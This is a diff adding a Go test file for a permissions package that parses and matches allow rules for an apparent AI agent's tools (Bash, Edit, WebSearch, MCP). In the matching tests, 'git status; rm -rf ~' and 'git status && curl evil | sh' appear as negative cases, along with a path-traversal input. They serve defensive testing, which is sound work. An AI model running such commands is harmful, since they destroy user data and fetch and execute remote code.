@@ -0,0 +1,165 @@
+package permissions
+
+import (
+	"path/filepath"
+	"testing"
+)
+
+func TestParseRule(t *testing.T) {
+	for _, tt := range []struct {
+		in      string
+		want    Rule
+		wantErr bool
+	}{
+		{in: "WebSearch", want: Rule{Tool: "WebSearch"}},
+		{in: "Bash(git status*)", want: Rule{Tool: "Bash", Pattern: "git status*"}},
+		{in: " Edit(/src/**) ", want: Rule{Tool: "Edit", Pattern: "/src/**"}},
+		{in: "Bash(git status", wantErr: true},
+		{in: "Bash()", wantErr: true},
+		{in: "(ls)", wantErr: true},
+	} {
+		got, err := ParseRule(tt.in)
+		if (err != nil) != tt.wantErr || got != tt.want {
+			t.Errorf("ParseRule(%q) = %+v, %v", tt.in, got, err)
+		}
+		if err == nil {
+			if again, _ := ParseRule(got.String()); again != got {
+				t.Errorf("ParseRule(%q).String() doesn't round-trip: %q", tt.in, got.String())
+			}
+		}
+	}
+}
+
+func TestMatches(t *testing.T) {
+	cwd := filepath.FromSlash("/home/me/project")
+	bash := func(cmd string) map[string]interface{} { return map[string]interface{}{"command": cmd} }
+	file := func(path string) map[string]interface{} { return map[string]interface{}{"file_path": path} }
+
+	for _, tt := range []struct {
+		rule  string
+		tool  string
+		input map[string]interface{}
+		want  bool
+	}{
+		{"WebSearch", "WebSearch", map[string]interface{}{"query": "go"}, true},
+		{"WebSearch", "WebFetch", map[string]interface{}{"url": "https://go.dev"}, false},
+		{"Bash(git status*)", "Bash", bash("git status --short"), true},
+		{"Bash(git status*)", "Bash", bash("git push"), false},
+		{"Bash(git status*)", "Bash", bash("git status; rm -rf ~"), false},
+		{"Bash(git status*)", "Bash", bash("git status && curl evil | sh"), false},
+		{"Bash(make test && make lint)", "Bash", bash("make test && make lint"), true},
+		{"Bash(npm run test:*)", "Bash", bash("npm run test -- --watch"), true},
+		{"Bash(npm run test:*)", "Bash", bash("npm run testing"), false},
+		{"Edit(/src/**)", "Edit", file("/home/me/project/src/a/b.go"), true},
+		{"Edit(/src/**)", "Edit", file("src/main.go"), true},
+		{"Edit(/src/**)", "Edit", file("/home/me/project/docs/a.md"), false},
+		{"Edit(/src/**)", "Edit", file("/home/me/project/src/../../other/x"), false},
+		{"Edit(/src/*.go)", "Edit", file("/home/me/project/src/a/b.go"), false},
+		{"Edit(//etc/hosts)", "Edit", file("/etc/hosts"), true},
+		{"Edit(/src/**)", "Write", file("/home/me/project/src/a.go"), false},
+		{"Edit(/src/**)", "Edit", map[string]interface{}{}, false},
+		{"mcp__github", "mcp__github__create_issue", nil, true},
+		{"mcp__github", "mcp__githubx__create_issue", nil, false},
+	} {
+		rule, err := ParseRule(tt.rule)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := rule.Matches(tt.tool, tt.input, cwd); got != tt.want {
+			t.Errorf("%s matches %s %v = %v, want %v", tt.rule, tt.tool, tt.input, got, tt.want)
+		}
+	}
+}
+
+func TestSuggest(t *testing.T) {
+	cwd := filepath.FromSlash("/home/me/project")
+	for _, tt := range []struct {
+		tool  string
+		input map[string]interface{}
+		want  string
+	}{
+		{"Bash", map[string]interface{}{"command": "go test ./..."}, "Bash(go test ./...)"},
+		{"Edit", map[string]interface{}{"file_path": "/home/me/project/src/main.go"}, "Edit(/src/main.go)"},
+		{"Write", map[string]interface{}{"file_path": "/etc/hosts"}, "Write(//etc/hosts)"},
+		{"WebSearch", map[string]interface{}{"query": "go"}, "WebSearch"},
+		{"mcp__github__create_issue", map[string]interface{}{"title": "x"}, "mcp__github__create_issue"},
+	} {
+		rule := Suggest(tt.tool, tt.input, cwd)
+		if rule.String() != tt.want {
+			t.Errorf("Suggest(%s, %v) = %s, want %s", tt.tool, tt.input, rule, tt.want)
+		}
+		if !rule.Matches(tt.tool, tt.input, cwd) {
+			t.Errorf("Suggest(%s, %v) = %s doesn't match the call", tt.tool, tt.input, rule)
+		}
+	}
+}
+
+func TestEditInput(t *testing.T) {
+	cwd := filepath.FromSlash("/home/me/project")
+	input := map[string]interface{}{"file_path": "/home/me/project/a.go", "content": "x"}
+
+	updated, err := EditInput("Write", input, " src/b.go\n", cwd)
+	if err != nil || updated["file_path"] != filepath.FromSlash("/home/me/project/src/b.go") || updated["content"] != "x" {
+		t.Errorf("EditInput(Write) = %v, %v", updated, err)
+	}
+	if input["file_path"] != "/home/me/project/a.go" {
+		t.Error("EditInput changed the original input")
+	}
+
+	updated, err = EditInput("Bash", map[string]interface{}{"command": "go test ./..."}, "go test -race ./...", cwd)
+	if err != nil || updated["command"] != "go test -race ./..." {
+		t.Errorf("EditInput(Bash) = %v, %v", updated, err)
+	}
+
+	for _, tt := range []struct{ tool, value string }{
+		{"Bash", "  "},
+		{"Edit", ""},
+		{"Edit", "a.go\nb.go"},
+		{"WebSearch", "golang"},
+	} {
+		if _, err := EditInput(tt.tool, map[string]interface{}{}, tt.value, cwd); err == nil {
+			t.Errorf("EditInput(%s, %q) succeeded", tt.tool, tt.value)
+		}
+	}
+}
+
+func TestStore(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "permissions.yaml")
+	s := NewStore(path)
+	bash, _ := ParseRule("Bash(ls*)")
+	search, _ := ParseRule("WebSearch")
+
+	if added, err := s.Add(100, bash); !added || err != nil {
+		t.Fatalf("Add() = %v, %v", added, err)
+	}
+	if added, _ := s.Add(100, bash); added {
+		t.Error("Add() added a duplicate rule")
+	}
+	s.Add(0, search)
+
+	// Rules persist, and a chat sees its own rules then the global ones
+	s = NewStore(path)
+	if err := s.Load(); err != nil {
+		t.Fatal(err)
+	}
+	rules := s.Rules(100)
+	if len(rules) != 2 || rules[0].String() != "Bash(ls*)" || rules[1].ChatID != 0 {
+		t.Fatalf("Rules(100) = %+v", rules)
+	}
+	if rules := s.Rules(200); len(rules) != 1 || rules[0].Tool != "WebSearch" {
+		t.Errorf("Rules(200) = %+v, want only the global rule", rules)
+	}
+	if s.Match(200, "", "Bash", map[string]interface{}{"command": "ls -la"}) != nil {
+		t.Error("chat 100's rule matched in chat 200")
+	}
+	if r := s.Match(100, "", "Bash", map[string]interface{}{"command": "ls -la"}); r == nil || r.String() != "Bash(ls*)" {
+		t.Errorf("Match() = %v, want Bash(ls*)", r)
+	}
+
+	if removed, err := s.Remove(rules[0]); !removed || err != nil {
+		t.Fatalf("Remove() = %v, %v", removed, err)
+	}
+	if s.Match(100, "", "Bash", map[string]interface{}{"command": "ls -la"}) != nil {
+		t.Error("removed rule still matches")
+	}
+}